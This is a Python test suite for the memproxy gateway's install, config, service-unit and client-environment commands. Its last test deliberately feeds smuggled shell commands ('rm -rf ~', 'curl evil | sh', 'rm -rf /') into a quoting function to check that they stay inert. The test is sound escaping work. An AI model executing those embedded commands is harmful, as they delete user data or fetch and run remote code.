"""Installed like a tool: the config lookup, ``memproxy init``, ``memproxy service`` and ``memproxy env|run``,
driven as a user drives them (the real CLI in a child process, a temporary HOME); the service managers are
``systemd-analyze verify`` for the units and a recording fake ``launchctl``/``systemctl`` for the commands."""

from __future__ import annotations

import json
import os
import plistlib
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from aiohttp_memproxy.config.settings import ConfigError, Settings
from aiohttp_memproxy.install import paths
from tests.conftest import MASTER_KEY, REPO, UPSTREAM_KEY, AppClient, base_config
from tests.fake_upstream import FakeUpstream
from tests.test_cli import memproxy
from tests.test_real_clis import cli, cli_env, run

pytestmark = pytest.mark.subprocess

SHIPPED = REPO / "aiohttp_memproxy" / "install" / "files"


@pytest.fixture
def user(tmp_path: Path, child_env: dict[str, str]) -> tuple[dict[str, str], Path]:
    """A user with an empty HOME, standing in an empty directory (no checkout around)."""
    home, work = tmp_path / "home", tmp_path / "work"
    home.mkdir()
    work.mkdir()
    env = {**child_env, "HOME": str(home)}
    env.pop("XDG_CONFIG_HOME", None)
    for name in ("ANTHROPIC_API_KEY", "OPENAI_API_KEY", "GEMINI_API_KEY", "SUPERMEMORY_API_KEY"):
        env.pop(name, None)
    return env, work


def test_init_writes_a_starter_and_an_env_file_then_changes_nothing(
    user: tuple[dict[str, str], Path],
) -> None:
    env, work = user
    secret = "fake-anthropic-key-for-init-0123456789"
    first = memproxy("init", env={**env, "ANTHROPIC_API_KEY": secret}, cwd=work)
    assert first.returncode == 0, first.stderr
    directory = Path(env["HOME"]) / ".config" / "aiohttp-memproxy"
    config, env_file = directory / "config.yaml", directory / "env"
    assert config.read_text() == (SHIPPED / "config.yaml").read_text()
    assert stat.S_IMODE(env_file.stat().st_mode) == 0o600
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    values = paths.read_env_file(env_file)
    assert values["ANTHROPIC_API_KEY"] == secret
    assert values["OPENAI_API_KEY"] == ""
    assert values["MEMPROXY_MASTER_KEY"].startswith("sk-memproxy-")
    assert len(values["MEMPROXY_MASTER_KEY"]) >= 40
    # It names what it found, never a value.
    assert "keys found in the environment: ANTHROPIC_API_KEY" in first.stdout
    assert secret not in first.stdout + first.stderr
    assert values["MEMPROXY_MASTER_KEY"] not in first.stdout + first.stderr
    assert "claude-sonnet-4-5-direct" in first.stdout  # enabled by the key it found
    before = {path: (path.read_bytes(), path.stat().st_mtime_ns) for path in (config, env_file)}
    second = memproxy("init", env={**env, "OPENAI_API_KEY": "sk-other"}, cwd=work)
    assert second.returncode == 0, second.stderr
    assert second.stdout.count("kept (exists, not overwritten)") == 2
    assert {path: (path.read_bytes(), path.stat().st_mtime_ns) for path in before} == before


def test_init_into_a_chosen_directory_takes_a_strong_master_key_from_the_environment(
    user: tuple[dict[str, str], Path],
) -> None:
    env, work = user
    result = memproxy(
        "init", "--dir", str(work / "gw"), env={**env, "MEMPROXY_MASTER_KEY": MASTER_KEY}, cwd=work
    )
    assert result.returncode == 0, result.stderr
    assert paths.read_env_file(work / "gw" / "env")["MEMPROXY_MASTER_KEY"] == MASTER_KEY
    assert "taken from $MEMPROXY_MASTER_KEY" in result.stdout


def test_commands_find_the_config_in_order_and_check_says_which(
    user: tuple[dict[str, str], Path], tmp_path: Path
) -> None:
    env, work = user
    missing = memproxy("check", env=env, cwd=work)
    assert missing.returncode == 1
    assert "no config found" in missing.stderr
    assert "run `memproxy init`" in missing.stderr
    assert "Traceback" not in missing.stderr
    assert memproxy("init", env=env, cwd=work).returncode == 0
    found = memproxy("check", env=env, cwd=work)
    assert found.returncode == 0, found.stderr
    user_config = Path(env["HOME"]) / ".config" / "aiohttp-memproxy" / "config.yaml"
    assert f"config: {user_config} " in found.stdout
    assert "read from the user config directory" in found.stdout
    assert f"with the env file {user_config.with_name('env')}" in found.stdout
    # A conf/config.yaml in any directory is not read (a repository just cloned could send the keys anywhere);
    # a checkout's of this project comes before the user's, and $MEMPROXY_CONFIG before both.
    (work / "conf").mkdir()
    shutil.copy(SHIPPED / "config.yaml", work / "conf" / "config.yaml")
    assert "read from the user config directory" in memproxy("check", env=env, cwd=work).stdout
    (work / "setup.cfg").write_text("[metadata]\nname = aiohttp-memproxy\n")
    assert "read from a checkout's conf/" in memproxy("check", env=env, cwd=work).stdout
    elsewhere = tmp_path / "elsewhere.yaml"
    elsewhere.write_text(yaml.safe_dump(base_config()))
    chosen = memproxy("check", env={**env, "MEMPROXY_CONFIG": str(elsewhere)}, cwd=work)
    assert f"config: {elsewhere} " in chosen.stdout
    assert "read from $MEMPROXY_CONFIG" in chosen.stdout


def test_the_env_file_fills_in_what_the_environment_lacks(tmp_path: Path) -> None:
    """Read as systemd's EnvironmentFile= reads it, so that the service and the commands agree."""
    env_file = tmp_path / "env"
    env_file.write_text(
        '# keys\n; also a comment\nA_KEY=\'one two\'\nB_KEY="b"\nC_KEY=\nD_KEY="pa\\"ss\\\\"\n'
    )
    env_file.chmod(0o600)
    environ = {"B_KEY": "from the shell"}
    assert paths.load_env_file(env_file, environ) == ["A_KEY", "C_KEY", "D_KEY"]
    assert environ == {"A_KEY": "one two", "B_KEY": "from the shell", "C_KEY": "", "D_KEY": 'pa"ss\\'}


@pytest.mark.parametrize(
    ("text", "error"),
    [
        ("not a line\n", "line 2: expected NAME=value"),
        ("1X=y\n", "line 2: expected NAME=value"),
        ("export X=y\n", "line 2: no `export` (systemd's EnvironmentFile= ignores it)"),
    ],
)
def test_a_malformed_env_file_is_refused_naming_the_line(tmp_path: Path, text: str, error: str) -> None:
    env_file = tmp_path / "env"
    env_file.write_text("A=1\n" + text)
    env_file.chmod(0o600)
    with pytest.raises(ConfigError) as raised:
        paths.read_env_file(env_file)
    assert raised.value.errors == (error,)


def test_an_env_file_others_may_write_is_not_read(
    user: tuple[dict[str, str], Path],
) -> None:
    """It decides where the keys go (HTTPS_PROXY, SSL_CERT_FILE): another user's hand in it is refused."""
    env, work = user
    assert memproxy("init", env=env, cwd=work).returncode == 0
    env_file = Path(env["HOME"]) / ".config" / "aiohttp-memproxy" / "env"
    env_file.chmod(0o666)
    result = memproxy("check", env=env, cwd=work)
    assert result.returncode == 1
    assert "the env file is writable by others or not yours: not read" in result.stderr


def dry_run_files(output: str) -> dict[str, str]:
    """The files a ``--dry-run`` would write, by path."""
    files: dict[str, str] = {}
    current: str | None = None
    for line in output.splitlines():
        if line.startswith("# would write: "):
            current = line.removeprefix("# would write: ").rsplit(" (mode", 1)[0]
            files[current] = ""
        elif current is not None and line == f"# end of {current}":
            current = None
        elif current is not None:
            files[current] += line + "\n"
    return files


def test_the_user_unit_points_at_this_installation_and_systemd_accepts_it(
    user: tuple[dict[str, str], Path], tmp_path: Path
) -> None:
    env, work = user
    assert memproxy("init", env=env, cwd=work).returncode == 0
    result = memproxy("service", "install", "--user", "--dry-run", "--platform", "linux", env=env, cwd=work)
    assert result.returncode == 0, result.stderr
    home = Path(env["HOME"])
    config = home / ".config" / "aiohttp-memproxy" / "config.yaml"
    [(path, unit)] = dry_run_files(result.stdout).items()
    assert path == str(home / ".config" / "systemd" / "user" / "aiohttp-memproxy.service")
    memproxy_bin = Path(sys.executable).parent / "memproxy"
    assert f"ExecStart={memproxy_bin} serve --config {config}\n" in unit
    assert f"EnvironmentFile=-{config.with_name('env')}\n" in unit
    for hardening in ("NoNewPrivileges=yes", "ProtectSystem=strict", "ProtectHome=read-only", "UMask=0077"):
        assert f"\n{hardening}\n" in unit
    assert "# would run: systemctl --user daemon-reload" in result.stdout
    assert "# would run: systemctl --user enable --now aiohttp-memproxy.service" in result.stdout
    assert not path_exists(path)  # a dry run writes nothing
    verify_user_unit(unit, env, tmp_path)


def verify_user_unit(unit: str, env: dict[str, str], tmp_path: Path) -> None:
    """``systemd-analyze verify`` accepts ``unit`` as a user unit (skipped, saying why, without systemd)."""
    if shutil.which("systemd-analyze") is None:
        pytest.skip("systemd-analyze is not installed (Debian: systemd)")
    written = tmp_path / "aiohttp-memproxy.service"
    written.write_text(unit)
    verified = subprocess.run(
        ["systemd-analyze", "verify", "--user", str(written)],
        capture_output=True,
        text=True,
        check=False,
        env={**env, "XDG_RUNTIME_DIR": str(tmp_path)},
    )
    assert verified.returncode == 0, verified.stderr


def path_exists(path: str) -> bool:
    return Path(path).exists()


def test_the_system_unit_keeps_its_hardening(user: tuple[dict[str, str], Path]) -> None:
    env, work = user
    result = memproxy(
        "service", "install", "--system", "--dry-run", "--platform", "linux", "--config",
        str(SHIPPED / "config.yaml"), env=env, cwd=work,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    [(path, unit)] = dry_run_files(result.stdout).items()
    assert path == "/etc/systemd/system/aiohttp-memproxy.service"
    for hardening in ("DynamicUser=yes", "ProtectHome=yes", "PrivateUsers=yes", "CapabilityBoundingSet="):
        assert f"\n{hardening}\n" in unit
    assert f"EnvironmentFile=-{SHIPPED / 'env'}\n" in unit


def fake_manager(directory: Path, name: str) -> Path:
    """A ``launchctl``/``systemctl`` on PATH that records its arguments, one call a line, and succeeds."""
    directory.mkdir(exist_ok=True)
    record = directory / f"{name}.calls"
    script = directory / name
    script.write_text(f'#!/bin/sh\necho "$*" >> "{record}"\n')
    script.chmod(0o755)
    return record


def test_the_launch_agent_for_macos(user: tuple[dict[str, str], Path], tmp_path: Path) -> None:
    env, work = user
    assert memproxy("init", env=env, cwd=work).returncode == 0
    home = Path(env["HOME"])
    config = home / ".config" / "aiohttp-memproxy" / "config.yaml"  # as found here (XDG: Linux's lookup)
    dry = memproxy("service", "install", "--dry-run", "--platform", "darwin", env=env, cwd=work)
    assert dry.returncode == 0, dry.stderr
    [(path, text)] = dry_run_files(dry.stdout).items()
    plist_path = home / "Library" / "LaunchAgents" / "io.github.aiohttp-memproxy.plist"
    assert path == str(plist_path)
    agent = plistlib.loads(text.encode())
    memproxy_bin = str(Path(sys.executable).parent / "memproxy")
    assert agent["Label"] == "io.github.aiohttp-memproxy"
    assert agent["ProgramArguments"] == [
        memproxy_bin, "serve", "--config", str(config), "--env-file", str(config.with_name("env")),
    ]  # fmt: skip
    assert agent["RunAtLoad"] is True
    assert agent["KeepAlive"] is True
    logs = home / "Library" / "Logs" / "aiohttp-memproxy"
    assert agent["StandardOutPath"] == str(logs / "memproxy.log")
    assert agent["StandardErrorPath"] == str(logs / "memproxy.err.log")
    assert agent["EnvironmentVariables"] == {"LITELLM_LOCAL_MODEL_COST_MAP": "True"}
    assert not plist_path.exists()

    record = fake_manager(tmp_path / "bin", "launchctl")
    path_env = {**env, "PATH": f"{tmp_path / 'bin'}:{env['PATH']}"}
    installed = memproxy("service", "install", "--platform", "darwin", env=path_env, cwd=work)
    assert installed.returncode == 0, installed.stderr
    assert plistlib.loads(plist_path.read_bytes()) == agent
    assert logs.is_dir()
    uid = os.getuid()
    assert record.read_text().splitlines() == [
        f"bootout gui/{uid}/io.github.aiohttp-memproxy",
        f"bootstrap gui/{uid} {plist_path}",
    ]
    assert memproxy("service", "status", "--platform", "darwin", env=path_env, cwd=work).returncode == 0
    removed = memproxy("service", "uninstall", "--platform", "darwin", env=path_env, cwd=work)
    assert removed.returncode == 0, removed.stderr
    assert not plist_path.exists()
    assert record.read_text().splitlines()[2:] == [
        f"print gui/{uid}/io.github.aiohttp-memproxy",
        f"bootout gui/{uid}/io.github.aiohttp-memproxy",
    ]
    refused = memproxy("service", "install", "--system", "--platform", "darwin", env=path_env, cwd=work)
    assert refused.returncode == 2
    assert "use --user" in refused.stderr


def test_the_user_unit_is_installed_and_enabled(user: tuple[dict[str, str], Path], tmp_path: Path) -> None:
    env, work = user
    assert memproxy("init", env=env, cwd=work).returncode == 0
    record = fake_manager(tmp_path / "bin", "systemctl")
    path_env = {**env, "PATH": f"{tmp_path / 'bin'}:{env['PATH']}"}
    result = memproxy("service", "install", "--platform", "linux", env=path_env, cwd=work)
    assert result.returncode == 0, result.stderr
    unit = Path(env["HOME"]) / ".config" / "systemd" / "user" / "aiohttp-memproxy.service"
    assert "ExecStart=" in unit.read_text()
    assert record.read_text().splitlines() == [
        "--user daemon-reload",
        "--user enable --now aiohttp-memproxy.service",
    ]
    assert memproxy("service", "uninstall", "--platform", "linux", env=path_env, cwd=work).returncode == 0
    assert not unit.exists()
    assert record.read_text().splitlines()[2:] == [
        "--user disable --now aiohttp-memproxy.service",
        "--user daemon-reload",
    ]


def config_for(doc: dict[str, Any], client: AppClient, path: Path) -> Path:
    """``doc`` at the address the test's gateway listens on, as `memproxy env` reads it."""
    port = client.make_url("").port
    path.write_text(yaml.safe_dump({**doc, "memproxy": {**doc.get("memproxy", {}), "port": port}}))
    return path


@pytest.mark.parametrize(
    ("client", "variable"),
    [
        ("claude", "ANTHROPIC_AUTH_TOKEN"),
        ("codex", "MEMPROXY_MASTER_KEY"),
        ("gemini", "GEMINI_API_KEY"),
        ("opencode", "MEMPROXY_MASTER_KEY"),
        ("pycharm", None),
    ],
)
def test_env_names_the_address_and_key_for_each_client(
    client: str, variable: str | None, user: tuple[dict[str, str], Path], tmp_path: Path
) -> None:
    env, work = user
    path = tmp_path / "config.yaml"
    doc = base_config(general_settings={"master_key": MASTER_KEY}, memproxy={"port": 9876})
    path.write_text(yaml.safe_dump(doc))
    result = memproxy("env", client, "--config", str(path), env=env, cwd=work)
    assert result.returncode == 0, result.stderr
    assert "127.0.0.1:9876" in result.stdout
    assert MASTER_KEY in result.stdout
    assert f"memproxy env: {path} (from --config)" in result.stderr
    if variable is not None:  # a shell evals it: the key is set, nothing else runs
        script = 'eval "$(cat)" && printf %s "$' + variable + '"'
        done = subprocess.run(
            ["sh", "-c", script], input=result.stdout, capture_output=True, text=True, check=False
        )
        assert done.returncode == 0, done.stderr
        assert done.stdout == MASTER_KEY


async def test_env_claude_sourced_makes_the_real_claude_code_answer(
    app_client: AppClient,
    make_settings: Callable[..., Settings],
    upstream: tuple[FakeUpstream, str],
    user: tuple[dict[str, str], Path],
    tmp_path: Path,
) -> None:
    claude = cli("claude")
    fake, url = upstream
    fake.call_tools = False  # a plain answer: the CLI would run a tool call for real
    doc = base_config(
        model_list=[
            {
                "model_name": "claude-*",
                "litellm_params": {"model": "anthropic/claude-up", "api_base": url, "api_key": UPSTREAM_KEY},
            }
        ],
        general_settings={"master_key": MASTER_KEY},
        memproxy={"retry_base_delay_s": 0},
    )
    client = await app_client(make_settings(doc))
    config = config_for(doc, client, tmp_path / "config.yaml")
    env, work = user
    quiet = {
        "DISABLE_TELEMETRY": "1",
        "DISABLE_AUTOUPDATER": "1",
        "DISABLE_ERROR_REPORTING": "1",
        "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
    }
    shell_env = cli_env(
        Path(env["HOME"]),
        **quiet,
        ANTHROPIC_API_KEY="fake-provider-key-in-the-shell-not-to-send",
        PYTHON=sys.executable,
        CONFIG=str(config),
        CLAUDE=str(claude),
        LITELLM_LOCAL_MODEL_COST_MAP="True",
    )
    script = (
        'eval "$("$PYTHON" -m aiohttp_memproxy env claude --config "$CONFIG")" && '
        '"$CLAUDE" -p "Say hello." --model claude-sonnet-4-5-20250929'
    )
    code, out, err = await run(["bash", "-c", script], {**shell_env, "PYTHONPATH": str(REPO)}, work)
    assert code == 0, (out, err)
    assert "Hello from upstream" in out
    # The gateway asks for its master key: only the token `env` set authenticated Claude Code (its real key,
    # unset by `env`, would have been refused).
    assert [seen for seen in fake.seen if seen.path == "/v1/messages"]

    # memproxy run: the same, started by the gateway's CLI.
    fake.seen.clear()
    command = [
        sys.executable, "-m", "aiohttp_memproxy", "run", "claude", "--bin", str(claude),
        "--config", str(config), "--", "-p", "Say hello.", "--model", "claude-haiku-4-5-20251001",
    ]  # fmt: skip
    code, out, err = await run(command, {**shell_env, "PYTHONPATH": str(REPO)}, work)
    assert code == 0, (out, err)
    assert "Hello from upstream" in out
    assert [seen for seen in fake.seen if seen.path == "/v1/messages"]


async def test_run_codex_and_gemini_answer_through_the_gateway(
    app_client: AppClient,
    make_settings: Callable[..., Settings],
    upstream: tuple[FakeUpstream, str],
    user: tuple[dict[str, str], Path],
    tmp_path: Path,
) -> None:
    """``memproxy run`` gives Codex its provider (``-c`` after its subcommand) and Gemini CLI its base URL and
    key: each answers with no config of its own for the gateway (Gemini CLI's auth type chosen once)."""
    codex, gemini = cli("codex"), cli("gemini")
    fake, url = upstream
    fake.call_tools = False  # a plain answer: the CLI would run a tool call for real
    doc = base_config(
        model_list=[
            {
                "model_name": "gpt-5-codex",
                "litellm_params": {
                    "model": "openai/gpt-5-codex",
                    "api_base": f"{url}/v1",
                    "api_key": UPSTREAM_KEY,
                },
            },
            {
                "model_name": "gemini-*",
                "litellm_params": {"model": "gemini/gemini-up", "api_base": url, "api_key": UPSTREAM_KEY},
            },
        ],
        general_settings={"master_key": MASTER_KEY},
        litellm_settings={"drop_params": True},
        memproxy={"retry_base_delay_s": 0},
    )
    client = await app_client(make_settings(doc))
    config = config_for(doc, client, tmp_path / "config.yaml")
    env, work = user
    home = Path(env["HOME"])
    (home / ".codex").mkdir()
    (home / ".gemini").mkdir()
    # No update check, no telemetry, no usage statistics: nothing leaves loopback.
    quiet = {
        "general": {"disableAutoUpdate": True, "disableUpdateNag": True},
        "privacy": {"usageStatisticsEnabled": False},
        "telemetry": {"enabled": False},
    }
    settings_file = home / ".gemini" / "settings.json"
    settings_file.write_text(json.dumps(quiet))
    child = {
        **cli_env(home, CODEX_HOME=str(home / ".codex"), GEMINI_CLI_NO_RELAUNCH="true"),
        "PYTHONPATH": str(REPO),
        "LITELLM_LOCAL_MODEL_COST_MAP": "True",
    }
    memproxy_run = [sys.executable, "-m", "aiohttp_memproxy", "run"]
    codex_args = ["exec", "--skip-git-repo-check", "-m", "gpt-5-codex", "Say hello."]
    command = [*memproxy_run, "codex", "--bin", str(codex), "--config", str(config), "--", *codex_args]
    code, out, err = await run(command, child, work)
    assert code == 0, (out, err)
    assert "Hello from upstream" in out
    assert {seen.path for seen in fake.seen} == {"/v1/responses"}
    fake.seen.clear()
    gemini_args = ["--skip-trust", "-p", "Say hello.", "-m", "gemini-2.5-flash"]
    command = [*memproxy_run, "gemini", "--bin", str(gemini), "--config", str(config), "--", *gemini_args]
    # Without its auth type chosen, Gemini CLI refuses a base URL of its own: `run` says what to set.
    code, out, err = await run(command, child, work)
    assert code != 0
    assert "Invalid auth method selected" in err
    assert '{"security": {"auth": {"selectedType": "gemini-api-key"}}}' in err
    assert fake.seen == []
    settings_file.write_text(json.dumps({**quiet, "security": {"auth": {"selectedType": "gemini-api-key"}}}))
    code, out, err = await run(command, child, work)
    assert code == 0, (out, err)
    assert "selectedType" not in err
    assert "Hello from upstream" in out
    assert any(seen.path.endswith(":streamGenerateContent") for seen in fake.seen)


def test_unit_paths_with_spaces_and_specifiers_are_quoted(
    user: tuple[dict[str, str], Path], tmp_path: Path
) -> None:
    """systemd reads ExecStart= as words with %-specifiers and $-variables: a path is one word, literally."""
    env, work = user
    directory = tmp_path / "my config %h $HOME"
    assert memproxy("init", "--dir", str(directory), env=env, cwd=work).returncode == 0
    config = directory / "config.yaml"
    result = memproxy(
        "service", "install", "--dry-run", "--platform", "linux", "--config", str(config), env=env, cwd=work
    )
    assert result.returncode == 0, result.stderr
    [(_, unit)] = dry_run_files(result.stdout).items()
    quoted = str(config).replace("%", "%%").replace("$", "$$")
    assert f' serve --config "{quoted}"\n' in unit
    assert f"EnvironmentFile=-{str(directory / 'env').replace('%', '%%')}\n" in unit
    verify_user_unit(unit, env, tmp_path)


def test_the_system_unit_defaults_to_the_system_config_and_uninstall_needs_none(
    user: tuple[dict[str, str], Path], tmp_path: Path
) -> None:
    env, work = user
    dry = memproxy("service", "install", "--system", "--dry-run", "--platform", "linux", env=env, cwd=work)
    assert dry.returncode == 0, dry.stderr
    [(_, unit)] = dry_run_files(dry.stdout).items()
    assert "serve --config /etc/aiohttp-memproxy/config.yaml\n" in unit
    assert "EnvironmentFile=-/etc/aiohttp-memproxy/env\n" in unit
    # With no config anywhere, a user service is still removed.
    record = fake_manager(tmp_path / "bin", "systemctl")
    path_env = {**env, "PATH": f"{tmp_path / 'bin'}:{env['PATH']}"}
    removed = memproxy("service", "uninstall", "--platform", "linux", env=path_env, cwd=work)
    assert removed.returncode == 0, removed.stderr
    assert record.read_text().splitlines() == [
        "--user disable --now aiohttp-memproxy.service",
        "--user daemon-reload",
    ]


def test_run_hands_the_client_the_gateway_and_not_the_keys(
    user: tuple[dict[str, str], Path], tmp_path: Path
) -> None:
    """The client gets the gateway's address and the service's master key (its env file's, over the shell's);
    the provider keys the config reads stay with the gateway, whether in the shell or in the env file."""
    env, work = user
    directory = tmp_path / "gw"
    assert memproxy("init", "--dir", str(directory), env=env, cwd=work).returncode == 0
    env_file = directory / "env"
    env_file.write_text(
        env_file.read_text().replace("OPENAI_API_KEY=\n", "OPENAI_API_KEY=fake-openai-key-in-file\n")
    )
    master = paths.read_env_file(env_file)["MEMPROXY_MASTER_KEY"]
    fake = tmp_path / "fake-claude"
    fake.write_text('#!/bin/sh\nprintf "%s\\n" "$@"\nenv\n')
    fake.chmod(0o755)
    shell = {
        **env,
        "GEMINI_API_KEY": "fake-gemini-key-in-shell",
        "ANTHROPIC_API_KEY": "fake-anthropic-key-in-shell",
        "MEMPROXY_MASTER_KEY": "fake-stale-master-key-in-the-shell",
        "MY_OWN_SETTING": "kept",
    }
    config = str(directory / "config.yaml")
    result = memproxy(
        "run", "claude", "--bin", str(fake), "--config", config, "--", "-p", "--config", env=shell, cwd=work
    )
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[:2] == ["-p", "--config"]  # the client's own arguments, untouched
    child = dict(line.split("=", 1) for line in lines[2:] if "=" in line)
    assert child["ANTHROPIC_BASE_URL"] == "http://127.0.0.1:8764"
    assert child["ANTHROPIC_AUTH_TOKEN"] == master
    assert child["MY_OWN_SETTING"] == "kept"
    for withheld in ("OPENAI_API_KEY", "GEMINI_API_KEY", "ANTHROPIC_API_KEY", "MEMPROXY_MASTER_KEY"):
        assert withheld not in child
    assert "fake-openai-key-in-file" not in result.stdout
    assert "fake-gemini-key-in-shell" not in result.stdout


def test_env_output_is_exports_and_comments_only() -> None:
    """A config's host is the user's to write: whatever it holds, what `eval` runs is the exports."""
    from aiohttp_memproxy.install.clients import Setup, shell_text

    text = shell_text(
        Setup("claude", "claude", {"A": "x'; rm -rf ~; '"}, notes=["line\ncurl evil | sh"]),
        "http://h\nrm -rf /",
    )
    for line in text.splitlines():
        assert line.startswith(("#", "export A=")), line
